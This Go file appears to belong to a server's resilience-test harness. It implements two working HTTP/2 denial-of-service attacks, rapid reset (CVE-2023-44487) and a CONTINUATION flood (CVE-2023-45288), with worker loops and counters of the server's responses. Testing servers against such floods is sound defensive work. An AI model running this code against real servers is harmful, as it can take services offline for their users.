package cmd

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Conn is a raw HTTP/2 connection the attacks write frames to; a reader
// goroutine counts what the server sends and acknowledges its settings
// through the writer.
type h2Conn struct {
	fr     *http2.Framer
	w      *bufio.Writer
	closed chan struct{} // the server closed the connection
	ack    chan struct{} // the server's SETTINGS await an ACK
	goaway atomic.Value  // string: the GOAWAY's error code, if one came
}

// dialH2 opens a connection with ALPN h2 and sends the client preface and
// empty SETTINGS.
func dialH2(ctx context.Context, tgt *attackTarget, row *attackRow) (*h2Conn, func(), error) {
	tc, err := dialTLS(ctx, tgt, "h2")
	if err != nil {
		return nil, nil, err
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		tc.Close()
		return nil, nil, fmt.Errorf("ALPN chose %q, not h2", p)
	}
	atomic.AddInt64(&row.Connections, 1)
	stop := context.AfterFunc(ctx, func() { tc.Close() })
	w := bufio.NewWriterSize(tc, 64<<10)
	c := &h2Conn{w: w, fr: http2.NewFramer(w, tc), closed: make(chan struct{}), ack: make(chan struct{}, 1)}
	c.fr.SetMaxReadFrameSize(1 << 20)
	io.WriteString(w, http2.ClientPreface)
	c.fr.WriteSettings()
	if err := w.Flush(); err != nil {
		tc.Close()
		return nil, nil, err
	}
	go func() {
		defer close(c.closed)
		for {
			f, err := c.fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					select {
					case c.ack <- struct{}{}:
					default:
					}
				}
			case *http2.GoAwayFrame:
				c.goaway.Store(f.ErrCode.String())
			case *http2.HeadersFrame:
				row.count("responses begun", 1)
			case *http2.RSTStreamFrame:
				row.count("RST_STREAM from the server", 1)
			}
		}
	}()
	return c, func() { stop(); tc.Close(); <-c.closed }, nil
}

// flush sends what is buffered, with a SETTINGS ACK first if one is due.
func (c *h2Conn) flush() error {
	select {
	case <-c.ack:
		c.fr.WriteSettingsAck()
	default:
	}
	return c.w.Flush()
}

// isClosed reports whether the server has closed the connection.
func (c *h2Conn) isClosed() bool {
	select {
	case <-c.closed:
		return true
	default:
		return false
	}
}

// headerBlock is an HPACK block for a GET of path.
func headerBlock(tgt *attackTarget, path string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", tgt.addr}, {":path", path}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return buf.Bytes()
}

// HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, as fast as
// the connection takes them, each stream starting a request the client
// cancels at once, so concurrency limits never apply. Reconnects when the
// server closes the connection.
const (
	resetWorkers = 4
	resetFor     = 8 * time.Second
	resetStreams = 1000000 // in all: a bound on the count besides the time
)

var rapidResetAttack = attackSpec{
	name:  "HTTP/2 rapid reset",
	bound: resetFor + 5*time.Second,
	run: func(t *testing.T, ctx context.Context, tgt *attackTarget, row *attackRow) {
		attackCtx, cancel := context.WithTimeout(ctx, resetFor)
		defer cancel()
		block := headerBlock(tgt, "/apps/app0")
		var sent atomic.Int64
		var wg sync.WaitGroup
		for range resetWorkers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for attackCtx.Err() == nil && sent.Load() < resetStreams {
					rapidResetConn(attackCtx, tgt, row, block, &sent)
				}
			}()
		}
		wg.Wait()
		row.Requests = sent.Load()
		row.Size = fmt.Sprintf("%d streams opened and reset on %d connections in %v", row.Requests, row.Connections, resetFor)
	},
}

func rapidResetConn(ctx context.Context, tgt *attackTarget, row *attackRow, block []byte, sent *atomic.Int64) {
	c, done, err := dialH2(ctx, tgt, row)
	if err != nil {
		if ctx.Err() == nil {
			row.count("dial error", 1)
			select {
			case <-ctx.Done():
			case <-time.After(100 * time.Millisecond):
			}
		}
		return
	}
	defer done()
	for id := uint32(1); id < 1<<31-2 && ctx.Err() == nil && !c.isClosed(); id += 2 {
		c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
		c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		atomic.AddInt64(&row.Bytes, int64(2*9+len(block)+4))
		if sent.Add(1) >= resetStreams {
			c.flush()
			break
		}
		if id%64 == 1 {
			if err := c.flush(); err != nil {
				break
			}
		}
	}
	if g, ok := c.goaway.Load().(string); ok {
		row.count("GOAWAY "+g, 1)
	} else if c.isClosed() {
		row.count("closed without GOAWAY", 1)
	}
}

// CONTINUATION flood (CVE-2023-45288): a HEADERS frame without END_HEADERS,
// then CONTINUATION frames that never end the block, each full of header
// fields, so a server that buffers or decodes the block grows with it.
const (
	continuationWorkers = 4
	continuationFor     = 8 * time.Second
	continuationBytes   = 1 << 30 // in all
)

var continuationAttack = attackSpec{
	name:  "HTTP/2 CONTINUATION flood",
	bound: continuationFor + 5*time.Second,
	run: func(t *testing.T, ctx context.Context, tgt *attackTarget, row *attackRow) {
		attackCtx, cancel := context.WithTimeout(ctx, continuationFor)
		defer cancel()
		first := headerBlock(tgt, "/apps/app0")
		// One 16 KiB fragment (the default largest frame) of whole
		// never-indexed fields, so every fragment decodes the same.
		var field bytes.Buffer
		hpack.NewEncoder(&field).WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 100), Sensitive: true})
		frag := bytes.Repeat(field.Bytes(), 16384/field.Len())
		var perConn []int64
		var mu sync.Mutex
		var wg sync.WaitGroup
		for range continuationWorkers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for attackCtx.Err() == nil && atomic.LoadInt64(&row.Bytes) < continuationBytes {
					n := continuationConn(attackCtx, tgt, row, first, frag)
					if n >= 0 {
						mu.Lock()
						perConn = append(perConn, n)
						mu.Unlock()
					}
				}
			}()
		}
		wg.Wait()
		row.Requests = row.Connections // one endless request a connection
		var most int64
		for _, n := range perConn {
			most = max(most, n)
		}
		row.Size = fmt.Sprintf("%d MiB of CONTINUATION on %d connections in %v (at most %d KiB on a connection before the server closed it)",
			row.Bytes>>20, row.Connections, continuationFor, most>>10)
	},
}

// continuationConn floods one connection; it returns the bytes the server
// took before closing it, or -1 when the attack's time ran out first.
func continuationConn(ctx context.Context, tgt *attackTarget, row *attackRow, first, frag []byte) int64 {
	c, done, err := dialH2(ctx, tgt, row)
	if err != nil {
		if ctx.Err() == nil {
			row.count("dial error", 1)
			select {
			case <-ctx.Done():
			case <-time.After(100 * time.Millisecond):
			}
		}
		return -1
	}
	defer done()
	var n int64
	c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
	for ctx.Err() == nil && !c.isClosed() && atomic.LoadInt64(&row.Bytes) < continuationBytes {
		if err := c.fr.WriteContinuation(1, false, frag); err != nil {
			break
		}
		n += int64(9 + len(frag))
		atomic.AddInt64(&row.Bytes, int64(9+len(frag)))
		if err := c.flush(); err != nil {
			break
		}
	}
	if ctx.Err() != nil {
		row.count("still open at the end", 1)
		return -1
	}
	if g, ok := c.goaway.Load().(string); ok {
		row.count("GOAWAY "+g, 1)
	} else {
		row.count("closed without GOAWAY", 1)
	}
	return n
}
